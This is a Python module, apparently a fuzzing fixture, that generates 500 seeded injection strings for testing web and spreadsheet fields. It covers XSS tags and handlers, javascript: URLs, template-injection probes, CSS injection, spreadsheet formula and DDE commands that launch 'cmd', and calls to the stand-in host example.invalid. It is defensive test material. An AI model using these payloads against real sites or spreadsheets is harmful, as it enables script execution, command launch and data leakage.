r"""Five hundred texts that somebody might put into a field of a message so that a page or a sheet does what he wants.

Everything is drawn from a fixed seed. A script that runs sets `window.ran`, or opens a dialog; a request would go to
`example.invalid`, a name that never resolves. A text says nothing twice, so each can be found again where it is shown.
"""

import random
from itertools import cycle

RUN = "window.ran=1"
FAR = "//example.invalid/p"
TAGS = ("img", "svg", "body", "iframe", "video", "audio", "input", "details", "marquee", "object", "embed", "math")
HANDLERS = (
    "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart", "onbegin",
)  # fmt: skip
CLOSERS = (
    "", '"', "'", "'>", '">', "</td>", "</bdi>", "</small></td></tr></table>", "-->", "]]>", "</style>", "</script>",
    "</title>", "</textarea>", "</svg>", "</desc>", "</template>", "</option></select>", "`", "\\\"",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", "vbscript:",
    "data:text/html,<script>", "data:text/html;base64,", "blob:", "file:///etc/passwd", "http:", "ftp:",
    "&#106;avascript:", "javascript&colon;", "tel:", "mailto:",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}x{% endraw %}", "{# gone #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ listing.model }}",
    "{n:one|many}", "{n}", "{value}", "%(n)s", "%s%n", "{0.__class__}", "{{ ''.__class__.__mro__ }}", "[[7*7]]",
    "*{7*7}",
)  # fmt: skip
LEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\u200b=",
    "\ufeff=",
    "＝",
    "＋",
    "－",
    "＠",
    "﹦",
    "|",
    "%",
)
CALLS = (
    'HYPERLINK("http://example.invalid/p","x")', "cmd|' /C calc'!A0", 'WEBSERVICE("http://example.invalid/p")',
    'IMPORTXML("http://example.invalid/p","//a")', "SUM(1,2)",
    'DDE("cmd","/C calc","x")', '1+1', 'INDIRECT("A1")',
)  # fmt: skip
STYLES = (
    "</style><style>*{display:none}", "x{background:url(//example.invalid/p)}",
    "@import '//example.invalid/p';", "expression(window.ran=1)",
    "behavior:url(//example.invalid/p)", "--a:url(//example.invalid/p)", "}*{content:url(//example.invalid/p)",
    "\\3c img src=x>", "/**/<!--", "@font-face{src:url(//example.invalid/p)}",
)  # fmt: skip
TRICKS = (
    "\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u200b", "\u200d", "\u2060",
    "\ufeff", "\u00ad", "\u0301" * 40, "\u0489" * 20, "\U000e0041", "\u2028", "\u2029", "\u0085", "\x00", "\x07",
    "\x08", "\x1b[31m", "\x7f", "\x0b", "\x0c", "\ufffe", "\ufffd", "\uffff", "＜script＞", "ʺ", "\u2039img\u203a", "İ",
    "ß", "ﷺ", "𒐫", "ก็" * 20, "שלום", "مرحبا", "漢字", "👩‍👩‍👧‍👦",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;", "&#60;img src=x onerror=window.ran=1&#62;", "&#x3c;svg/onload=window.ran=1>",
    "&amp;lt;b&amp;gt;", "&nbsp", "&notit;",
    "&NewLine;", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-",
    "&quot; onfocus=window.ran=1 x=&quot;",
)  # fmt: skip
SCRIPTS = ("script", "SCRIPT", "scr\x00ipt", "script/x", f"script src={FAR}", 'script type="module"')
LINKS = (
    "a href", "form action", "iframe src", "base href", "meta http-equiv=refresh content=0;url",
    "link rel=stylesheet href",
)  # fmt: skip
DRAWN = (
    f"<script>{RUN}</script>", f"<animate onbegin={RUN} attributeName=x dur=1s>", f'<use href="{FAR}#a"/>',
    f"<foreignObject><img src=x onerror={RUN}></foreignObject>", f'<image href="{FAR}"/>', f"<style>@import'{FAR}'",
    f'<a xlink:href="javascript:{RUN}"><text>x</text></a>', f'<set attributeName=href to="javascript:{RUN}">',
)  # fmt: skip


def payloads(count: int = 500, seed: int = 6) -> tuple[str, ...]:
    """Return `count` different texts, the families in turn, so that a short draw has all of them.

    Each ends in its own mark, as `q17q`, but for those that are nothing else than what they are.
    """
    chance = random.Random(seed)
    found: list[str] = []
    for kind in cycle(KINDS):
        if len(found) == count:
            return tuple(found)
        found.append(f"{kind(chance)} q{len(found)}q")
    raise AssertionError("there is always another kind")


def _any(chance: random.Random, *of: str | tuple[str, ...]) -> str:
    """Join one of each; a text stands for itself."""
    return "".join(one if isinstance(one, str) else chance.choice(one) for one in of)


def _script(chance: random.Random) -> str:
    return _any(chance, CLOSERS, "<", SCRIPTS, ">", (RUN, "alert(1)", f"fetch({FAR!r})"), "</script>")


def _handler(chance: random.Random) -> str:
    gaps = (" ", "/", "\n", "\t", "\x0c")
    return _any(chance, CLOSERS, "<", TAGS, gaps, "src=x", gaps, HANDLERS, f"={RUN} autofocus tabindex=1>")


def _attribute(chance: random.Random) -> str:
    return _any(chance, CLOSERS, " ", HANDLERS, f"={RUN} autofocus style=position:fixed x=", CLOSERS)


def _url(chance: random.Random) -> str:
    return _any(chance, CLOSERS, "<", LINKS, '="', SCHEMES, (RUN, FAR), '">x')


def _drawing(chance: random.Random) -> str:
    return _any(chance, CLOSERS, "<svg>", DRAWN, "</svg>")


def _template(chance: random.Random) -> str:
    return _any(chance, CLOSERS, TEMPLATES, TEMPLATES)


def _style(chance: random.Random) -> str:
    return _any(chance, CLOSERS, STYLES, CLOSERS)


def _trick(chance: random.Random) -> str:
    return _any(chance, ("EXE", "GIFT", "180-12345675"), TRICKS, ("fdp.", "<b>x", "9"), TRICKS)


def _entity(chance: random.Random) -> str:
    return _any(chance, CLOSERS, ENTITIES, ENTITIES)


def _lead(chance: random.Random) -> str:
    return _any(chance, ("", "", "", "a;", "a,", "a\n", '";', "a\t"), LEADS, CALLS)


def _long(chance: random.Random) -> str:
    letters = ("A", "Ж", "ა", "W", "<", "&", '"', "=", "漢", "\u0301")
    return _any(chance, letters) * chance.choice((150, 400, 2000))


KINDS = (_script, _handler, _attribute, _url, _drawing, _template, _style, _trick, _entity, _lead, _lead, _long)
